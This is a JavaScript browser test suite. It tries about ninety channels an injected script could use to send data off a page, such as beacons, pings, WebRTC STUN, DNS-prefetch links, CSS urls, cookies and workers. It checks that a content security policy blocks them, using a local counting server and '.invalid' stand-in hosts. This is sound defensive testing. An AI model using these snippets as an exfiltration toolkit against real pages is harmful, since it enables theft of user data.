// Each way by which a script that got into the page could reach another machine, tried from the loaded page, from a worker that the
// script made, and, so that the two can fail, from a page without a policy. A machine counts what arrives, and the browser's own log of
// its network (`--log-net-log`) shows names that are only looked up.

import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { setTimeout } from "node:timers/promises";
import { DIST, FIREFOX, profile } from "./browser.mjs";
import { DiscreetPage } from "./page-object.mjs";
import { serve } from "./server.mjs";

/// Ways of a page and of a worker. `url` is an address of the machine that counts, `own` one of the page's host, `host` a name that nobody has.
const BOTH = {
  fetch: ({ url }) => fetch(url, { mode: "no-cors" }),
  "fetch with keepalive": ({ url }) => fetch(url, { method: "POST", body: "x", mode: "no-cors", keepalive: true }),
  "an address that is looked up": ({ host }) => fetch(`https://${host}/`, { mode: "no-cors" }),
  XMLHttpRequest: ({ url }) => {
    const request = new XMLHttpRequest();
    request.open("GET", url);
    request.send();
  },
  WebSocket: ({ url }) => void new WebSocket(url.replace("http", "ws")),
  WebSocketStream: ({ url }) => new WebSocketStream(url.replace("http", "ws")).opened,
  EventSource: ({ url }) => void new EventSource(url),
  WebTransport: ({ host }) => new WebTransport(`https://${host}/`).ready,
  "a store of responses": async ({ url }) => (await caches.open("x")).add(new Request(url, { mode: "no-cors" })),
  "a font": ({ url }) => new FontFace("x", `url(${url})`).load(),
  "dynamic import": ({ url }) => import(url),
};

const link = (rel, more = "") => `({ url, host }) => {
  const address = ${["dns-prefetch", "preconnect"].includes(rel) ? "`https://${host}/`" : "url"};
  document.head.append(Object.assign(document.createElement("link"), { rel: "${rel}", href: address ${more} }));
}`;
const rels = Object.fromEntries(
  ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "stylesheet", "icon", "manifest", "compression-dictionary"].map((rel) => [
    `a link: ${rel}`,
    link(rel, rel === "preload" ? ', as: "image"' : ""),
  ]),
);
const styled = (rule) => `({ url, host }) => {
  const style = document.createElement("style");
  style.textContent = \`${rule}\`;
  document.head.append(style);
}`;
const added = (rule) => `({ url }) => {
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(\`${rule}\`);
  document.adoptedStyleSheets.push(sheet);
}`;
const element = (name, properties) => `({ url, host }) => {
  const made = Object.assign(document.createElement("${name}"), ${properties});
  document.body.append(made);
}`;
const svg = (name) => `({ url }) => {
  const space = "http://www.w3.org/2000/svg";
  const made = document.createElementNS(space, "${name}");
  for (const [key, value] of Object.entries({ href: url, width: 9, height: 9 })) made.setAttribute(key, value);
  const root = document.createElementNS(space, "svg");
  root.append(made);
  document.body.append(root);
}`;

/// Ways of a page alone.
const PAGE = {
  ...BOTH,
  ...rels,
  "a link that was there": ({ host }) => {
    for (const own of document.querySelectorAll("link")) {
      const copy = own.cloneNode();
      Object.assign(copy, { rel: "dns-prefetch", href: `https://${host}/` });
      document.head.append(copy);
    }
  },
  ...Object.fromEntries(
    ["value", "nodeValue", "textContent"].map((name) => [
      `the ${name} of a link's attribute`,
      `({ host }) => {
        const { rel, href } = document.querySelector("link").attributes;
        rel.${name} = "dns-prefetch";
        href.${name} = "https://" + host + "/";
      }`,
    ]),
  ),
  "an attribute of another element": ({ host }) => {
    const other = Object.assign(document.createElement("a"), { href: `https://${host}/`, rel: "dns-prefetch" });
    for (const name of ["rel", "href"]) {
      const moved = other.removeAttributeNode(other.attributes[name]);
      document.querySelector("link").attributes.setNamedItem(moved);
    }
  },
  "a link from a text": ({ host }) => {
    document.body.insertAdjacentHTML("beforeend", `<link rel=dns-prefetch href=https://${host}/>`);
  },
  "a link from a text of XML": ({ host }) => {
    const html = "http://www.w3.org/1999/xhtml";
    const box = new Document().createElementNS(html, "div");
    box.innerHTML = `<x:link xmlns:x="${html}" rel="dns-prefetch" href="https://${host}/"/>`;
    document.head.append(box.firstChild);
  },
  "a link from a text that is sanitized": ({ host }) => {
    const sanitizer = new Sanitizer({ elements: ["link"], attributes: ["rel", "href"] });
    const box = document.createElement("div");
    document.body.append(box);
    box.setHTML(`<link rel=dns-prefetch href=https://${host}/>`, { sanitizer });
  },
  "a link of SVG": ({ host }) => {
    const made = document.createElementNS("http://www.w3.org/1999/xhtml", "x:link");
    document.head.append(Object.assign(made, { rel: "dns-prefetch", href: `https://${host}/` }));
  },
  fetchLater: ({ url }) => void fetchLater(url, { activateAfter: 0 }),
  "a beacon": ({ url }) => void navigator.sendBeacon(url, "x"),
  "a ping": ({ url }) => {
    const made = Object.assign(document.createElement("a"), { href: "#x", ping: url });
    document.body.append(made);
    made.click();
  },
  Image: ({ url }) => void (new Image().src = url),
  "a picture's set": element("img", "{ srcset: `${url} 1x` }"),
  "an image of SVG": svg("image"),
  "a filter of SVG": svg("feImage"),
  "CSS url()": element("p", '{ style: `background: url(${url}); height: 9px` }'),
  "CSS url() of a sheet": styled("body { background: url(${url}) }"),
  "CSS url() of an adopted sheet": added("body { background: url(${url}) }"),
  "CSS image-set()": element("p", "{ style: `background: image-set(url(${url}) 1x); height: 9px` }"),
  "CSS @import": styled("@import url(${url});"),
  "CSS @font-face": styled("@font-face { font-family: own; src: url(${url}) } body { font-family: own }"),
  "an adopted @font-face": added("@font-face { font-family: own; src: url(${url}) } body { font-family: own }"),
  audio: element("audio", '{ src: url, preload: "auto" }'),
  video: element("video", '{ src: url, preload: "auto" }'),
  "a poster": element("video", "{ poster: url }"),
  "a track": ({ url }) => {
    const video = Object.assign(document.createElement("video"), { crossOrigin: "anonymous" });
    const track = Object.assign(document.createElement("track"), { src: url, default: true });
    video.append(track);
    document.body.append(video);
    track.track.mode = "showing";
  },
  "a script": element("script", "{ src: url }"),
  "a module": element("script", '{ type: "module", src: url }'),
  "speculation rules": element("script", '{ type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [url] }] }) }'),
  "an input that is an image": element("input", '{ type: "image", src: url }'),
  "a frame": element("iframe", "{ src: url }"),
  "an object": element("object", "{ data: url }"),
  "an embedded file": element("embed", "{ src: url }"),
  "a worklet": ({ url }) => new AudioContext().audioWorklet.addModule(url),
  "a worker of another place": ({ own }) => void new Worker(own),
  "a shared worker": ({ own }) => void new SharedWorker(own),
  "a service worker": ({ own }) => navigator.serviceWorker.register(own),
  "a form": ({ url }) => {
    const form = Object.assign(document.createElement("form"), { action: url });
    document.body.append(form);
    form.submit();
  },
  location: ({ url }) => void (location.href = url),
  "location.replace": ({ url }) => location.replace(url),
  "navigation.navigate": ({ url }) => void navigation.navigate(url),
  "a redirection": element("meta", '{ httpEquiv: "refresh", content: `0;url=${url}` }'),
  "a click on a link": ({ url }) => Object.assign(document.createElement("a"), { href: url }).click(),
  "a download": ({ url }) => Object.assign(document.createElement("a"), { href: url, download: "x" }).click(),
  "window.open": ({ url }) => void window.open(url),
  "a new tab, right after a click": ({ url }) => Object.assign(document.createElement("a"), { href: url, target: "_blank" }).click(),
  WebRTC: async ({ host }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription();
  },
  "a built-in element of the document's registry": async ({ host }) => {
    class Own extends HTMLIFrameElement {}
    document.customElementRegistry.define("own-frame", Own, { extends: "iframe" });
    const frame = new Own();
    document.body.append(frame);
    const peer = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription();
  },
  "a passkey's place": ({ host }) =>
    navigator.credentials.create({
      publicKey: { rp: { id: host, name: "x" }, user: { id: new Uint8Array(9), name: "x", displayName: "x" }, challenge: new Uint8Array(9), pubKeyCredParams: [{ type: "public-key", alg: -7 }] },
    }),
  "a sign-in of a provider": ({ own }) =>
    navigator.credentials.get({ identity: { providers: [{ configURL: own, clientId: "x" }] } }),
  "a method of payment": ({ host }) =>
    new PaymentRequest([{ supportedMethods: `https://${host}/` }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(),
  "a cookie": ({ url }) => {
    document.cookie = `way1=${url.split("/").pop()}`;
    location.reload();
  },
  "a cookie of the store": async ({ url }) => {
    await cookieStore.set("way2", url.split("/").pop());
    location.reload();
  },
};

/// What a page's policy cannot close. `docs/security.md` says so.
const OPEN = ["a new tab, right after a click (page)"];

/// What leaves the page, puts another one before it, or needs one that nothing has been tried on: each is tried on a page of its own.
const LEAVES = [
  "a form", "location", "location.replace", "navigation.navigate", "a redirection", "a click on a link", "window.open",
  "a new tab, right after a click", "a passkey's place", "a cookie", "a cookie of the store",
];

/// Starts the machine. `seen` is what it heard: paths, and cookies.
async function machine(t) {
  const seen = new Set();
  const server = createServer((request, response) => {
    for (const text of [request.url, request.headers.cookie ?? ""]) for (const found of text.match(/way-\w+-\d+x/g) ?? []) seen.add(found);
    response.setHeader("access-control-allow-origin", "*");
    response.writeHead(200, { "content-type": request.url === "/unsealed" ? "text/html" : "text/plain" }).end("<!DOCTYPE html><title>x</title><link rel=icon href=data:,><body>x");
  });
  server.on("upgrade", (request, socket) => {
    seen.add(request.url.slice(1));
    socket.destroy();
  });
  await new Promise((bound) => server.listen(0, bound));
  t.after(() => {
    server.close();
    server.closeAllConnections();
  });
  return { seen, port: server.address().port };
}

test("every way to another machine", { skip: FIREFOX && "the log is Chromium's" }, async (t) => {
  const folder = mkdtempSync(join(tmpdir(), "ways-"));
  t.after(() => rmSync(folder, { recursive: true, force: true }));
  const site = await serve(DIST);
  t.after(() => site.close());
  const { seen, port } = await machine(t);
  const ways = [...Object.entries(PAGE).map((way) => ["page", ...way]), ...Object.entries(BOTH).map((way) => ["worker", ...way])];

  /// Tries all ways on a profile of its own, and names those that were seen. `arrive` opens the page on which one is tried, by its name.
  const reached = async (state, arrive) => {
    const log = join(folder, `${state}.json`);
    const context = await profile(join(folder, state), [`--log-net-log=${log}`, "--enable-experimental-web-platform-features"], { serviceWorkers: "allow" });
    const marks = ways.map((_, index) => `way-${state}-${index}x`);
    const [first] = context.pages();
    for (const [index, [where, name, way]] of ways.entries()) {
      const page = await arrive(first, name);
      const own = new URL(marks[index], page.url()).href;
      const target = { own, url: `http://127.0.0.1:${port}/${marks[index]}`, host: `${marks[index]}.invalid` };
      const call = `(${way})(${JSON.stringify(target)})`;
      const worker = `void new Worker(URL.createObjectURL(new Blob([${JSON.stringify(call)}], { type: "text/javascript" })))`;
      const tried = where === "page" ? `void (async () => ${call})().catch(() => {})` : worker;
      // The way before it may lead elsewhere only now, to a page of the host that is not this one.
      const here = state === "sealed" ? 'document.documentElement.dataset.ready === "" && ' : "";
      while (!(await page.evaluate(`${here}(${tried}, true)`).catch(() => true))) await setTimeout(50);
      // What is expected comes soon, and what must not come has until the end.
      for (let tries = 0; state === "free" && tries < 10 && !seen.has(marks[index]); tries += 1) await setTimeout(30);
    }
    await setTimeout(1000);
    // A cookie would be sent to every port of this host.
    await (await context.newPage()).goto(`http://localhost:${port}/unsealed`);
    await context.close();
    const network = readFileSync(log, "utf8");
    return ways.flatMap(([where, name], index) => (seen.has(marks[index]) || site.requests.includes(`/${marks[index]}`) || network.includes(`${marks[index]}.invalid`) ? [`${name} (${where})`] : []));
  };

  const sealed = await reached("sealed", async (first, name) => {
    // On a page on which much has been tried, a passkey's place is not asked for, sealed or not.
    const page = name === "a passkey's place" ? await first.context().newPage() : first;
    const ready = () => page.evaluate("document.documentElement.dataset.ready").catch(() => null);
    if (page.url() === "about:blank") await new DiscreetPage(page).start(site.url);
    while ((await ready()) !== "") await setTimeout(50);
    return page;
  });
  assert.deepEqual(sealed, OPEN);
  const free = await reached("free", async (first, name) => {
    const page = LEAVES.includes(name) ? await first.context().newPage() : first;
    if (page.url() === "about:blank") await page.goto(`http://localhost:${port}/unsealed`);
    else await page.bringToFront();
    return page;
  });
  assert.deepEqual(free, ways.map(([where, name]) => `${name} (${where})`));
});
